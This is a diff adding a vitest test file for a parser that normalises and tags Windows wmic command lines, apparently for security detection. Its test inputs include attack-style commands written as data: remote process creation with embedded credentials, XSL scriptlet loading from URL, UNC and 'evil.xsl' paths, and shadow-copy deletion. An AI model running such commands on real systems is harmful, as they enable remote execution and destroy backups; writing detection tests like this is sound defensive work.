@@ -1,0 +1,75 @@
+import { describe, expect, test } from 'vitest'
+import { readToolUse } from './read-tool-use'
+
+describe('wmic', () => {
+  test.each([
+    [
+      'wmic process call create "notepad.exe"',
+      'wmic process call create notepad.exe',
+      'wmic|process-create|bare|exe',
+      ['launches-command'],
+      null,
+    ],
+    [
+      'wmic.exe /node:"10.1.2.3" /user:CORP\\adm /password:Secret1 process call create "cmd.exe /c whoami > C:\\out.txt"',
+      'wmic /node:<ip> /user:<account> /password:<secret> process call create cmd.exe /c whoami > <drive-root>\\out.txt',
+      'wmic|process-create|bare|exe',
+      ['launches-command', 'remote-host'],
+      null,
+    ],
+    [
+      'wmic process call create C:\\Users\\Public\\a.exe',
+      'wmic process call create <public>\\a.exe',
+      'wmic|process-create|public|exe',
+      ['launches-command', 'public-folder'],
+      null,
+    ],
+    [
+      'wmic os get /format:"https://example.com/a.xsl"',
+      'wmic os get /format:https://example.com/*.xsl',
+      'wmic|stylesheet|url|xsl',
+      ['scriptlet', 'remote-url'],
+      null,
+    ],
+    ['wmic os get Caption /format:list', 'wmic os get caption /format:list', 'wmic|get|-|-', [], null],
+    [
+      'wmic process list /FORMAT:evil.xsl',
+      'wmic process list /format:evil.xsl',
+      'wmic|stylesheet|bare|xsl',
+      ['scriptlet'],
+      null,
+    ],
+    [
+      'wmic process get brief /format:"\\\\srv\\share\\a.xsl"',
+      'wmic process get brief /format:<unc>\\srv\\share\\a.xsl',
+      'wmic|stylesheet|unc|xsl',
+      ['scriptlet', 'unc-path'],
+      null,
+    ],
+    ['wmic shadowcopy delete', 'wmic shadowcopy delete', 'wmic|delete|-|-', ['deletes-backups'], null],
+    ['wmic /node:localhost os get caption', 'wmic /node:localhost os get caption', 'wmic|get|-|-', [], null],
+    ['wmic computersystem get domain', 'wmic computersystem get domain', 'wmic|get|-|-', [], null],
+    [
+      'wmic process where name="a.exe" delete',
+      'wmic process where name=a.exe delete',
+      'wmic|delete|-|-',
+      [],
+      null,
+    ],
+    [
+      'wmic product where "name like \'Vendor%\'" call uninstall /nointeractive',
+      "wmic product where name like 'vendor%' call uninstall /nointeractive",
+      'wmic|call|-|-',
+      [],
+      null,
+    ],
+    ['wmic', 'wmic', 'wmic|none|-|-', [], null],
+  ])('%s', (line, pattern, shape, facts, hosted) => {
+    expect(readToolUse('wmic.exe', line, 'C:\\Windows\\System32\\wmic.exe')).toMatchObject({
+      pattern,
+      shape,
+      facts,
+      hosted,
+    })
+  })
+})
